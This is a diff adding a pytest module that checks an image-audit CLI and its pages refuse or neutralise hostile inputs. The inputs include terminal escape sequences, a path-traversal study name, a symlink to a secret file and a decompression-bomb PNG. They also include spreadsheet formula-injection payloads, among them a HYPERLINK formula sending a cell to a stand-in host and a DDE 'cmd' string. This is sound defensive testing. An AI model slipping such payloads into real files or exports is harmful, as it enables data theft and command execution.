@@ -1,0 +1,385 @@
+"""Hostile files and text through the real CLI and pages (issue 21): run-folder manifests, CSV files,
+names, prompt lists, seed ranges, broken models, exports a spreadsheet opens, text a terminal prints,
+and images over the caps. A refusal is one exact `error:` line, exit 2, no traceback, and every table's
+rows and every file under the home as they were. Each message is the module constant the code raises."""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import io
+import json
+import shutil
+import struct
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from helpers import ORIGIN_SHEET, open_page, png, run_cli, sheet
+
+from sdaudit.analysis.targets import MAX_BYTES as MAX_TARGETS_BYTES
+from sdaudit.errors import SdauditError
+from sdaudit.files.csvfile import CONTROL, DUPLICATE_COLUMN, ROW_SHORT, TOO_BIG, spreadsheet_safe
+from sdaudit.files.gallery import CANNOT_SHOW, TOO_MANY_PIXELS, load_image
+from sdaudit.files.manifest_schema import FIELD, IMAGE, MANIFEST_SCHEMA, RUN, UNKNOWN, shown
+from sdaudit.files.reference import MAX_IMAGE_PIXELS
+from sdaudit.files.runfolder import MANIFEST, NESTED, RunFolder
+from sdaudit.files.safe import LINK
+from sdaudit.files.sheets import import_annotations
+from sdaudit.generation.generate import StoreSink, generate
+from sdaudit.generation.promptsets import CONTROL as PROMPT_LIST_CONTROL
+from sdaudit.generation.spec import MAX_SEEDS, SEED_COUNT, GenerationSpec
+from sdaudit.records import RATER_CONTROL, STUDY_NAME
+from sdaudit.store import TABLES, Store
+
+TINY = ["--steps", "2", "--height", "64", "--width", "64", "--batch-size", "2"]
+ESCAPES = "\x1b]0;PWNED\x07\x1b[2J"  # retitles the terminal, then clears the screen
+PROMPT = f"a doctor {ESCAPES}at a desk"
+SECRET = "TOP-SECRET-LINE,do not print me"
+SDAUDIT_HEADER = "run_key,seed,rater,person_present,gender,mst,skin_binary,confidence"
+FORMULAS = ('=HYPERLINK("http://x.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3")
+
+
+@pytest.fixture(scope="module")
+def template(tmp_path_factory, tiny_model) -> Path:
+    """A home with one generated run (its prompt holds escape sequences), the origin sheet imported
+    with a second rater whose name holds escape sequences (as a store written before names were
+    checked may hold), and a run folder beside it; copied afresh for every case."""
+    root = tmp_path_factory.mktemp("hostile-inputs")
+    home = root / "home"
+    spec = GenerationSpec(model=str(tiny_model), prompt=PROMPT, first_seed=0, last_seed=1, batch_size=2, steps=2,
+                          height=64, width=64, device="cpu")
+    with Store.open(home) as store:
+        generate(spec, StoreSink(store, home), home=home)
+        import_annotations(ORIGIN_SHEET, store, study="origin", rater="ana")
+        rows = store.annotations(study="origin")[["image_id", "person_present", "gender", "mst", "skin_binary",
+                                                    "confidence"]].assign(rater=f"ben{ESCAPES}")
+        store.save_annotations(rows)
+    generate(spec, RunFolder(root / "runfolder", spec=spec.to_dict()), home=home)
+    RunFolder(root / "runfolder").finalize()
+    (root / "secret.txt").write_text(SECRET + "\n")
+    return root
+
+
+@dataclass
+class Place:
+    root: Path
+    model: Path
+
+    @property
+    def home(self) -> Path:
+        return self.root / "home"
+
+    def file(self, name: str, content: str | bytes) -> Path:
+        path = self.root / name
+        path.write_bytes(content.encode() if isinstance(content, str) else content)
+        return path
+
+    def manifest(self, change: Callable[[dict], object]) -> Path:
+        """A copy of the run folder whose manifest ``change`` has altered."""
+        folder = self.root / "bad-folder"
+        shutil.copytree(self.root / "runfolder", folder)
+        manifest = json.loads((folder / MANIFEST).read_text())
+        change(manifest)
+        (folder / MANIFEST).write_text(json.dumps(manifest))
+        return folder
+
+
+@pytest.fixture
+def place(template, tiny_model, tmp_path) -> Place:
+    shutil.copytree(template, tmp_path / "p")
+    return Place(tmp_path / "p", tiny_model)
+
+
+def home_state(home: Path) -> tuple[dict, dict]:
+    """Every table's rows, and every file under the home (the store file aside) with its sha256."""
+    with Store(home / "sdaudit.duckdb", read_only=True) as store:
+        tables = {table: sorted(map(repr, store.db.read_frame(f"SELECT * FROM {table}").astype(str).values.tolist()))
+                  for table in TABLES}
+    files = {str(path.relative_to(home)): hashlib.sha256(path.read_bytes()).hexdigest()
+             for path in sorted(home.rglob("*")) if path.is_file() and not path.name.startswith("sdaudit.duckdb")}
+    return tables, files
+
+
+def assert_refused(result, message: str) -> None:
+    assert "Traceback" not in result.stderr, result.stderr
+    assert result.returncode == 2, result.stderr
+    assert result.stderr.splitlines() == [f"error: {message}"]
+
+
+# -- run-folder manifests ------------------------------------------------------------------------
+
+
+def _set(section: str, field: str, value) -> Callable[[dict], None]:
+    return lambda manifest: manifest[section][0].__setitem__(field, value)
+
+
+def _image_field(field: str, value) -> tuple:
+    return _set("images", field, value), f"images[0].{field}", IMAGE["properties"][field]["description"], value
+
+
+def _run_field(field: str, value) -> tuple:
+    return _set("runs", field, value), f"runs[0].{field}", RUN["properties"][field]["description"], value
+
+
+MANIFEST_CASES = {
+    "runs is a number": (lambda m: m.__setitem__("runs", 5), "runs", MANIFEST_SCHEMA["properties"]["runs"]["description"], 5),
+    "seed is text": _image_field("seed", "x"),
+    "seed is negative": _image_field("seed", -5),
+    "seed is 2**70": _image_field("seed", 2**70),
+    "seed is 1.5": _image_field("seed", 1.5),
+    "seed is 1.0": _image_field("seed", 1.0),
+    "path is a number": _image_field("path", 5),
+    "nsfw is text": _image_field("nsfw", "yes"),
+    "steps is text": _run_field("steps", "abc"),
+    "prompt is a number": _run_field("prompt", 123),
+    "prompt holds NUL": _run_field("prompt", "a doctor\x00"),
+    "versions is text": _run_field("versions", "zz"),
+    "width not a multiple of 8": _run_field("width", 65),
+}
+
+
+@pytest.mark.parametrize("case", MANIFEST_CASES.values(), ids=MANIFEST_CASES)
+def test_a_manifest_field_out_of_its_schema_is_one_line_and_ingests_nothing(place, case):
+    change, field, rule, value = case
+    folder = place.manifest(change)
+    before = home_state(place.home)
+    result = run_cli("ingest", str(folder), "--home", str(place.home), cwd=place.root)
+    assert_refused(result, FIELD.format(where=folder / MANIFEST, field=field, rule=rule, value=shown(value)))
+    assert home_state(place.home) == before
+
+
+def test_a_manifest_study_name_is_checked_by_todays_rule(place):
+    folder = place.manifest(_set("runs", "study", "../../x"))
+    before = home_state(place.home)
+    result = run_cli("ingest", str(folder), "--home", str(place.home), cwd=place.root)
+    assert_refused(result, STUDY_NAME.format(value="../../x"))
+    assert home_state(place.home) == before
+
+
+def test_an_unknown_manifest_field_is_refused(place):
+    folder = place.manifest(lambda manifest: manifest["images"][0].__setitem__("evil", 1))
+    before = home_state(place.home)
+    result = run_cli("ingest", str(folder), "--home", str(place.home), cwd=place.root)
+    assert_refused(result, UNKNOWN.format(where=folder / MANIFEST, field="images[0]", name="'evil'"))
+    assert home_state(place.home) == before
+
+
+def test_a_manifest_nested_200000_deep_is_one_line(place):
+    folder = place.manifest(lambda manifest: None)
+    text = (folder / MANIFEST).read_text()
+    (folder / MANIFEST).write_text(text.replace('"runs": [', '"runs": [' + "[" * 200_000 + "]" * 200_000 + ", ", 1))
+    before = home_state(place.home)
+    result = run_cli("ingest", str(folder), "--home", str(place.home), cwd=place.root)
+    assert_refused(result, NESTED.format(where=folder / MANIFEST))
+    assert home_state(place.home) == before
+
+
+def test_every_manifest_sdaudit_writes_fits_its_schema(place):
+    """The schema names every field of a spec, a run and an image, and the template's folder passes."""
+    from dataclasses import fields
+
+    from sdaudit.files.manifest_schema import SPEC
+    from sdaudit.files.runfolder import read_run_folder
+    from sdaudit.records import ImageRecord, RunRecord
+
+    assert set(SPEC["properties"]) == {field.name for field in fields(GenerationSpec)}
+    assert set(RUN["properties"]) == {field.name for field in fields(RunRecord)}
+    assert set(IMAGE["properties"]) == {field.name for field in fields(ImageRecord)}
+    assert len(read_run_folder(place.root / "runfolder").images) == 2
+
+
+# -- CSV files, names, prompt lists, seeds, models -------------------------------------------------
+
+
+def _csv(rows: list[list[str]]) -> str:
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\n").writerows(rows)
+    return out.getvalue()
+
+
+@dataclass
+class Case:
+    id: str
+    args: Callable[[Place], list[str]]
+    message: Callable[[Place], str]
+
+
+def _linked_sheet(place: Place) -> Path:
+    (place.root / "sheet.csv").symlink_to(place.root / "secret.txt")
+    return place.root / "sheet.csv"
+
+
+CASES = [
+    Case("a linked sheet is refused unread",
+         lambda p: ["import-annotations", str(_linked_sheet(p)), "--study", "origin", "--rater", "r", "--home", str(p.home)],
+         lambda p: LINK.format(what="the annotation sheet", path="sheet.csv", root=p.root.resolve())),
+    Case("a sheet naming a column twice",
+         lambda p: ["import-annotations", str(p.file("twice.csv", "male_presenting,female_presenting,monk_binary,"
+                                                      "confidence,Confidence\n0,1,0,high,low\n")),
+                    "--study", "origin", "--rater", "r", "--home", str(p.home)],
+         lambda p: DUPLICATE_COLUMN.format(name="twice.csv", column="confidence", first=4, second=5)),
+    Case("a sheet row shorter than its header",
+         lambda p: ["import-annotations", str(p.file("short.csv", "male_presenting,female_presenting,monk_binary,"
+                                                     "confidence\n0,1,0,high\n1,0\n")),
+                    "--study", "origin", "--rater", "r", "--home", str(p.home)],
+         lambda p: ROW_SHORT.format(name="short.csv", row=3, fields=2, header=4)),
+    Case("a NUL in a sheet's rater",
+         lambda p: ["import-annotations", str(p.file("nul.csv", SDAUDIT_HEADER + "\nr1,0,an\x00a,true,female,3,,high\n")),
+                    "--study", "origin", "--format", "sdaudit", "--home", str(p.home)],
+         lambda p: CONTROL.format(name="nul.csv", row=2, column="rater", cell=repr("an\x00a"))),
+    Case("an escape sequence in a sheet's cell",
+         lambda p: ["import-annotations", str(p.file("esc.csv", SDAUDIT_HEADER + f"\nr1,0,ana,true,female{ESCAPES},3,,high\n")),
+                    "--study", "origin", "--format", "sdaudit", "--home", str(p.home)],
+         lambda p: CONTROL.format(name="esc.csv", row=2, column="gender", cell=repr(f"female{ESCAPES}"))),
+    Case("an escape sequence in --rater",
+         lambda p: ["import-annotations", str(ORIGIN_SHEET), "--study", "origin", "--rater", f"ana{ESCAPES}",
+                    "--home", str(p.home)],
+         lambda p: RATER_CONTROL.format(value=f"ana{ESCAPES}")),
+    Case("a NUL in a targets row",
+         lambda p: ["import-targets", str(p.file("targets.csv", "slot,family,group,target,source\n"
+                                                 "doctor\x00,gender,female,0.4,ONS\n")),
+                    "--study", "origin", "--home", str(p.home)],
+         lambda p: CONTROL.format(name=f"the targets file {p.root / 'targets.csv'}", row=2, column="slot",
+                                  cell=repr("doctor\x00"))),
+    Case("a targets file naming a column twice",
+         lambda p: ["import-targets", str(p.file("targets.csv", "slot,family,group,target,source,slot\n"
+                                                 "doctor,gender,female,0.4,ONS,nurse\n")),
+                    "--study", "origin", "--home", str(p.home)],
+         lambda p: DUPLICATE_COLUMN.format(name=f"the targets file {p.root / 'targets.csv'}", column="slot", first=1,
+                                           second=6)),
+    Case("a NUL in a prompt-list value",
+         lambda p: ["generate", "--model", str(p.model), *TINY, "--seeds", "0-1", "--prompt-template", "a photo of a {}",
+                    "--prompt-list", str(p.file("jobs.txt", "doctor\nnur\x00se\n")), "--home", str(p.home)],
+         lambda p: PROMPT_LIST_CONTROL.format(line=2, where=p.root / "jobs.txt", value="nur\x00se")),
+    Case("a seed range of 2**53 seeds",
+         lambda p: ["generate", "--model", str(p.model), *TINY, "--seeds", "0-9007199254740991", "--home", str(p.home)],
+         lambda p: SEED_COUNT.format(first=0, last=9007199254740991, count=9007199254740992, max=MAX_SEEDS,
+                                     end=MAX_SEEDS - 1)),
+]
+
+
+@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
+def test_hostile_input_is_one_exact_line_and_changes_nothing(place, case):
+    before = home_state(place.home)
+    result = run_cli(*case.args(place), cwd=place.root, env={"HF_HUB_OFFLINE": "1"})
+    assert_refused(result, case.message(place))
+    assert SECRET not in result.stderr + result.stdout
+    assert home_state(place.home) == before
+
+
+def test_a_nul_in_a_rater_name_is_refused_where_sheets_are_imported(tmp_path):
+    with Store() as store, pytest.raises(SdauditError) as caught:
+        import_annotations(ORIGIN_SHEET, store, study="origin", rater="an\x00a")
+    assert str(caught.value) == RATER_CONTROL.format(value="an\x00a")
+
+
+def test_the_targets_cap_holds_through_the_one_reader(place):
+    big = place.file("big.csv", "a\n" + "x\n" * (MAX_TARGETS_BYTES // 2 + 1))
+    result = run_cli("import-targets", str(big), "--study", "origin", "--home", str(place.home), cwd=place.root)
+    assert_refused(result, TOO_BIG.format(name=f"the targets file {big}", size=big.stat().st_size, max=MAX_TARGETS_BYTES))
+
+
+def test_a_model_whose_unet_config_is_broken_is_one_error_line(place):
+    broken = place.root / "broken-model"
+    shutil.copytree(place.model, broken)
+    (broken / "unet" / "config.json").write_text("[1]")
+    before = home_state(place.home)
+    result = run_cli("generate", "--model", str(broken), *TINY, "--seeds", "0-1", "--home", str(place.home),
+                     cwd=place.root, env={"HF_HUB_OFFLINE": "1"})
+    assert "Traceback" not in result.stderr and result.returncode == 2, result.stderr
+    assert len(result.stderr.splitlines()) == 1, result.stderr  # no FutureWarning line
+    assert result.stderr.startswith(f"error: could not load model {str(broken)!r} as a text-to-image pipeline")
+    assert home_state(place.home) == before
+
+
+# -- safe to open elsewhere ------------------------------------------------------------------------
+
+
+def test_csv_exports_open_in_a_spreadsheet_as_text_and_parquet_keeps_the_raw_text(place):
+    rows = [SDAUDIT_HEADER.split(",")]
+    run_key = json.loads((place.root / "runfolder" / MANIFEST).read_text())["runs"][0]["run_key"]
+    rows += [[run_key, "0", formula, "true", "female", "3", "", "high"] for formula in FORMULAS]
+    sheet_path = place.file("formulas.csv", _csv(rows))
+    run_cli("import-annotations", str(sheet_path), "--study", "default", "--format", "sdaudit",
+            "--home", str(place.home), cwd=place.root, check=True)
+    out = place.root / "out"
+    run_cli("export", "--study", "default", "--out", str(out), "--home", str(place.home), cwd=place.root, check=True)
+    with (out / "default-annotations.csv").open(newline="") as handle:
+        exported = list(csv.DictReader(handle))
+    assert sorted(row["rater"] for row in exported) == sorted("'" + formula for formula in FORMULAS)
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in exported for cell in row.values())
+    assert {row["seed"] for row in exported} == {"0"}  # numbers stay numbers
+    assert sorted(pd.read_parquet(out / "default-annotations.parquet")["rater"]) == sorted(FORMULAS)
+
+
+def test_only_text_cells_are_neutralised():
+    table = pd.DataFrame({"group": ["-x", "=1", "male", None], "difference": [-0.25, 0.5, -1.0, 0.0],
+                          "images": pd.array([-1, 2, None, 4], dtype="Int64")})
+    safe = spreadsheet_safe(table)
+    assert list(safe["group"][:3]) == ["'-x", "'=1", "male"] and pd.isna(safe["group"][3])
+    assert safe["difference"].equals(table["difference"]) and safe["images"].equals(table["images"])
+    assert list(table["group"][:3]) == ["-x", "=1", "male"]  # the caller's table is left as it was
+
+
+@pytest.mark.parametrize("command", [["runs"], ["agreement", "--study", "origin"],
+                                     ["import-annotations", str(ORIGIN_SHEET), "--study", "more", "--rater", "ana"]],
+                         ids=lambda command: command[0])
+def test_the_cli_prints_no_escape_sequence(place, command):
+    # import-annotations echoes its home: one whose folder name holds the escapes
+    home = place.root / f"home{ESCAPES}" if command[0] == "import-annotations" else place.home
+    result = run_cli(*command, "--home", str(home), cwd=place.root)
+    assert result.returncode == 0, result.stderr
+    assert "\x1b" not in result.stdout + result.stderr and "\x07" not in result.stdout
+    if command[0] == "runs":
+        assert "a doctor ]0;PWNED" not in result.stdout and "a doctor" in result.stdout
+    if command[0] == "agreement":
+        assert "ben" in result.stdout  # the rater is named, without the escapes
+
+
+# -- pages never crash on a bad file ----------------------------------------------------------------
+
+
+def _huge_png(side: int = 30_000) -> bytes:
+    """A PNG of side × side grey pixels (900 megapixels), a few KB on disk: only its header is honest."""
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
+
+    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00" * (side + 1) * 4))
+            + chunk(b"IEND", b""))
+
+
+def test_an_image_over_the_pixel_cap_is_a_placeholder_not_a_decoder_run(tmp_path):
+    (tmp_path / "images" / "R").mkdir(parents=True)
+    (tmp_path / "images" / "R" / "0.png").write_bytes(_huge_png())
+    loaded = load_image(tmp_path, "images/R/0.png")
+    assert loaded.data is None
+    assert loaded.problem == CANNOT_SHOW.format(reason=TOO_MANY_PIXELS.format(path="images/R/0.png", max=MAX_IMAGE_PIXELS))
+
+
+@pytest.mark.parametrize("page", ["annotate", "team"])
+def test_annotate_and_team_show_a_placeholder_for_a_900_megapixel_image(app_home, page):
+    from helpers import make_images, make_run
+
+    from app.widgets import plain
+
+    with Store.open(app_home) as store:
+        store.add_run(make_run())
+        images = make_images(seeds=range(2))
+        for image in images:
+            (app_home / image.path).parent.mkdir(parents=True, exist_ok=True)
+            (app_home / image.path).write_bytes(png(image.seed))
+        (app_home / images[0].path).write_bytes(_huge_png())
+        store.add_images(images)
+        first = int(store.images(run_key="run-a")["image_id"].iloc[0])
+        if page == "team":  # a disagreement on the image, so Team lists it to adjudicate
+            for rater, gender in (("ana", "female"), ("ben", "male")):
+                store.save_annotations(sheet({(gender, 3): 1}, rater=rater, start=first).assign(confidence="high"))
+    at = open_page(page, rater="cai")
+    assert not at.exception, at.exception
+    expected = plain(CANNOT_SHOW.format(reason=TOO_MANY_PIXELS.format(path=images[0].path, max=MAX_IMAGE_PIXELS)))
+    assert expected in [warning.value for warning in at.warning]
